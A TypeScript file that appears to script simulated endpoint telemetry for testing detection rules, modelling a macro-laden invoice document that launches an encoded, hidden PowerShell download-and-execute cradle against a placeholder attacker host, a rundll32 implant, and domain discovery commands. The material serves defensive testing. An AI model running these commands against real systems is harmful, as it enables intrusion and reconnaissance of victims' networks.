import { encodedCommand } from '../encoded-command.js';
import { PROGRAMS } from '../programs.js';
import { Script } from '../script.js';
import type { Step } from '../step.js';
import { ATTACKER, IMPLANT } from './attacker.js';

const wks = new Script('WKS-17');

/**
 * How the attack gets in and looks around: a document with a macro, an implant, discovery. The last arguments of a step
 * are the rules that must find it.
 */
export const entry: readonly Step[] = [
  // The document and what its macro starts.
  wks.file(
    '09:02:07.530',
    'outlook',
    'create',
    'C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2ZP1R\\Invoice_4471.docm',
  ),
  wks.file(
    '09:02:07.541',
    'outlook',
    'stream',
    'C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2ZP1R\\Invoice_4471.docm:Zone.Identifier',
  ),
  wks.start(
    '09:02:09.118',
    'word',
    'outlook',
    'winword',
    `"${PROGRAMS.winword.path}" /n "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2ZP1R\\Invoice_4471.docm" /o ""`,
  ),
  wks.start(
    '09:02:24.310',
    'stage',
    'word',
    'powershell',
    `powershell.exe -NoP -W Hidden -Enc ${encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER.name}/a.ps1')`)}`,
    { lives: 21 },
    'office_started_interpreter',
    'powershell_encoded_command',
    'powershell_hidden_window',
  ),
  wks.file(
    '09:02:25.002',
    'stage',
    'create',
    'C:\\Users\\m.keller\\AppData\\Local\\Temp\\__PSScriptPolicyTest_l2vq4x0e.b3k.ps1',
  ),
  wks.resolve('09:02:25.874', 'stage', ATTACKER.name, ATTACKER.address),
  wks.connect('09:02:26.031', 'stage', ATTACKER.address, 80),
  wks.file('09:02:31.667', 'stage', 'create', IMPLANT, 'program_dropped_in_shared_folder'),
  wks.start(
    '09:02:33.240',
    'implant',
    'stage',
    'rundll32',
    `"${PROGRAMS.rundll32.path}" ${IMPLANT},Start`,
    {},
    'rundll32_library_in_user_folder',
  ),
  wks.connect('09:02:35.518', 'implant', ATTACKER.address, 443),

  // Looking around.
  wks.start(
    '09:03:12.051',
    'd1',
    'implant',
    'cmd',
    `C:\\Windows\\system32\\cmd.exe /c whoami /all`,
    { lives: 0.4 },
    'loader_started_shell',
  ),
  wks.start(
    '09:03:12.102',
    'd2',
    'd1',
    'whoami',
    'whoami  /all',
    { lives: 0.3 },
    'own_privileges_listed',
    'discovery_below_suspicious_parent',
  ),
  wks.start(
    '09:03:29.774',
    'd3',
    'implant',
    'cmd',
    `C:\\Windows\\system32\\cmd.exe /c nltest /domain_trusts /all_trusts`,
    { lives: 0.9 },
    'loader_started_shell',
  ),
  wks.start(
    '09:03:29.812',
    'd4',
    'd3',
    'nltest',
    'nltest  /domain_trusts /all_trusts',
    { lives: 0.8 },
    'domain_trusts_listed',
    'discovery_below_suspicious_parent',
  ),
  wks.start(
    '09:03:51.336',
    'd5',
    'implant',
    'cmd',
    `C:\\Windows\\system32\\cmd.exe /c net group "Domain Admins" /domain`,
    { lives: 0.8 },
    'loader_started_shell',
  ),
  wks.start(
    '09:03:51.379',
    'd6',
    'd5',
    'net',
    'net  group "Domain Admins" /domain',
    { lives: 0.7 },
    'discovery_below_suspicious_parent',
  ),
  wks.start(
    '09:03:51.402',
    'd7',
    'd6',
    'net1',
    'C:\\Windows\\system32\\net1  group "Domain Admins" /domain',
    { lives: 0.6 },
    'domain_accounts_listed',
    'discovery_below_suspicious_parent',
  ),
];
